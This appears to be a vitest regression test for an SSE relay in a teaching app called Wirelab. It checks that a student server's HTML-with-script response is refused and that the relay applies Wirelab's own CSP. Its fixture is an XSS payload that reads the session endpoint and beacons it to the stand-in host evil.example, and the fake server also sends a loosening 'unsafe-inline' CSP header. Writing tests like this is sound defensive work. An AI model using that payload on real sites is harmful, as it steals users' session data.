// Issue 36, attack 3: a student's server (or anything on their machine) answering the SSE relay
// with `text/html` and a script. The relay served it from Wirelab's origin, under the student's
// Content-Type and without Wirelab's CSP; now only an event stream passes, with the CSP.
import type { Bilingual } from '../../shared/bilingual.ts';
import { createServer, type Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { OWN_SERVER_SSE_RELAY_PATH, relayQuery } from '../../contracts/own-server/relays.ts';
import { newSession } from './capture-client.ts';
import { startServer, type RunningServer } from './start-server.ts';

let wirelab: RunningServer;
let student: Server;
let studentPort: number;
const PAGE = '<!doctype html><script>fetch("/_wirelab/session").then((r) => r.text()).then((t) => navigator.sendBeacon("//evil.example", t))</script>';

beforeAll(async () => {
  wirelab = await startServer({ ownServers: true });
  student = createServer((request, response) => {
    if (request.url === '/page') {
      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      return response.end(PAGE);
    }
    // an event stream whose server tries to loosen what the page may run
    response.writeHead(200, { 'content-type': 'text/event-stream', 'content-security-policy': "script-src 'unsafe-inline'" });
    response.end('data: hello\n\n');
  });
  await new Promise<void>((resolve) => student.listen(0, '127.0.0.1', resolve));
  studentPort = (student.address() as { port: number }).port;
});
afterAll(async () => {
  await new Promise<void>((resolve) => student.close(() => resolve()));
  await wirelab.close();
});

async function throughRelay(path: string): Promise<Response> {
  const session = await newSession(wirelab.origin);
  return fetch(`${wirelab.origin}${OWN_SERVER_SSE_RELAY_PATH}${relayQuery(`127.0.0.1:${studentPort}`, path)}`, {
    headers: { cookie: `wirelab_session=${session}` },
  });
}

describe('the SSE relay and what the student’s server answers', () => {
  it('a text/html page with a script is refused with the relay’s own problem, in both languages, and never served', async () => {
    const response = await throughRelay('/page');
    expect(response.status).toBe(502);
    expect(response.headers.get('content-type')).toMatch(/^application\/problem\+json/);
    const body = await response.text();
    expect(body).not.toContain('<script>');
    const problem = JSON.parse(body) as { type: string; localized: Bilingual };
    expect(problem.type).toMatch(/not-event-stream$/);
    expect(problem.localized.en).toMatch(/text\/html/);
    expect(problem.localized.ru).toMatch(/только потоки событий/);
  });

  it('an event stream passes, with Wirelab’s CSP and not the student’s', async () => {
    const response = await throughRelay('/events');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/event-stream');
    expect(response.headers.get('content-security-policy')).toMatch(/^default-src 'self'; script-src 'self';.*frame-ancestors 'none'$/);
    expect(await response.text()).toBe('data: hello\n\n');
  });
});
